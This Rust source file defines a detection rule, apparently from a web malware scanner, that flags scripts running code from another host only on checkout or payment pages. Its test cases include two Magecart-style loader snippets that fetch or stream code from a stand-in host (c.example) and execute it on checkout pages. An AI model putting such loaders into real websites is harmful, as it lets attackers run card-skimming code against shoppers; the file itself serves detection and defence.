//! `foreign-code-where-people-pay`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "foreign-code-where-people-pay",
    description: "The script looks whether the page is one where people pay, and only there runs code that another host sends.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::RemoteRun]), one(&[Atom::PaymentPlace]), one(&[Atom::PageAddress])],
    within: 160,
    only_if: Some(is_foreign),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "if(/checkout|onepage/.test(location.href))fetch('https://c.example/a').then(r=>r.text()).then(t=>{new Function(t)()})",
            "setInterval(()=>{if(up||location.pathname.indexOf('checkout')<0)return;up=1;const s=new WebSocket('wss://c.example/');s.onmessage=({data})=>{document.body.appendChild(Object.assign(document.createElement('script'),{innerHTML:data})).remove()}},1000)",
        ],
        without: &[
            "if(/checkout/.test(location.href)){var s=document.createElement('script');s.src='https://pay.example/v3.js';document.head.append(s)}",
            "if(/checkout/.test(location.href))fetch('/cart/fragment').then(r=>r.text()).then(t=>{box.innerHTML=t})",
            "if(/checkout/.test(location.href))fetch('/checkout/widget').then(r=>r.text()).then(t=>{new Function(t)()})",
            "fetch('https://c.example/a').then(r=>r.text()).then(t=>{new Function(t)()})",
        ],
    },
};

/// Whether the code comes from another host: by an address, or through a socket.
fn is_foreign(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    near.has_fact(&[Atom::ForeignRun]) || near.has_fact(&[Atom::Socket])
}
